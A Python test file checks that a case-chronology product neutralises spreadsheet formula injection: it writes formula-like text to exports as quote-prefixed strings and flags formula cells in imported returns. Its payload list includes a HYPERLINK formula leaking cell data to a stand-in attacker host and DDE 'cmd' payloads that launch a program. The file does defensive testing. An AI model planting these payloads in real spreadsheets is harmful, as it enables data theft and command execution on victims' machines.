"""Formula injection (issue 16, item 2): text that looks like a formula stays text, both ways.

Out: every spreadsheet the product writes stores such text as a string cell with Excel's quote
prefix; the sheet XML carries no ``<f>`` element. In: a formula cell in an agency's return is
reported as a formula, its text kept for the person importing to see.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import openpyxl
import pytest

from cspr.accounts.roles import Role
from cspr.chronology import actions, exports, queries
from cspr.chronology.models import ChronologyEntry
from tests.security.ooxml import as_typed
from tests.world import World

pytestmark = pytest.mark.usefixtures("frozen")

HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formula_elements(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[\s>/]", archive.read(name))
        ]


def test_exported_chronology_keeps_formula_like_text_as_text(client, world: World) -> None:
    case = world.cases["own"]
    for i, text in enumerate(HOSTILE):
        ChronologyEntry.objects.create(
            case=case,
            agency=world.agencies["own"],
            date_text=f"0{i + 1}/03/2019",
            date_from=dt.date(2019, 3, i + 1),
            date_to=dt.date(2019, 3, i + 1),
            source=text,
            family_contact=text,
            key_event=text,
            comment=text,
        )
    client.force_login(world.user(Role.BUSINESS_MANAGER))
    response = client.get(f"/chronology/{case.reference}/export.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content

    assert _formula_elements(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=3))
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE, strict=True):
        key_event = row[8]  # "Key Event/Action Undertaken"
        assert as_typed(key_event.value) == text
        assert key_event.data_type == "s"
        assert key_event.quotePrefix is True
        assert as_typed(row[5].value) == text
        assert row[5].quotePrefix is True
    # An ordinary cell next to them is not quote-prefixed (the prefix is per cell, not shared).
    assert rows[0][3].value == world.agencies["own"].name
    assert not rows[0][3].quotePrefix


def test_blank_template_has_no_formulas() -> None:
    assert _formula_elements(exports.blank_xlsx()) == []


def _return_with_formulas() -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(exports.blank_xlsx()))
    sheet = book["Key events"]
    sheet.append(
        [
            "27/03/2019",
            None,
            "School safeguarding log",
            None,
            None,
            '=HYPERLINK("http://attacker.invalid/","Enter the key event")',
            None,
        ]
    )
    sheet.append(["=DATE(2019,3,28)", None, "GP notes", None, None, "Mother attended GP", None])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_imported_formula_is_reported_with_its_text_kept(world: World) -> None:
    case, agency = world.cases["own"], world.agencies["own"]
    user = world.user(Role.BUSINESS_MANAGER)
    pending = actions.check_import(case=case, agency=agency, file=_return_with_formulas(), acting_user=user)

    first, second = pending.rows
    formula = '=HYPERLINK("http://attacker.invalid/","Enter the key event")'
    assert first["fields"]["key_event"] == formula
    assert first["refusals"] == []
    assert first["warnings"] == [
        f"The key event cell is a spreadsheet formula, not a value: its text “{formula}” is kept as written "
        "and will never be calculated. Check it, and correct the entry after the import"
    ]
    # A formula where a date belongs is shown, and the row is refused for its date.
    assert second["fields"]["date_text"] == "=DATE(2019,3,28)"
    assert second["refusals"] == [
        "“=DATE(2019,3,28)” is not a date in UK form: use DD/MM/YYYY, a month (May 2016) or a season (Spring 2019)"
    ]
    assert any("date cell is a spreadsheet formula" in w for w in second["warnings"])

    # Imported, then exported: still text.
    actions.commit_import(pending=pending, acting_user=user)
    entry = ChronologyEntry.objects.get(case=case, agency=agency)
    assert entry.key_event == formula
    data = exports.xlsx(queries.export_rows(case), {}, (None, None), title="Round trip")
    assert _formula_elements(data) == []
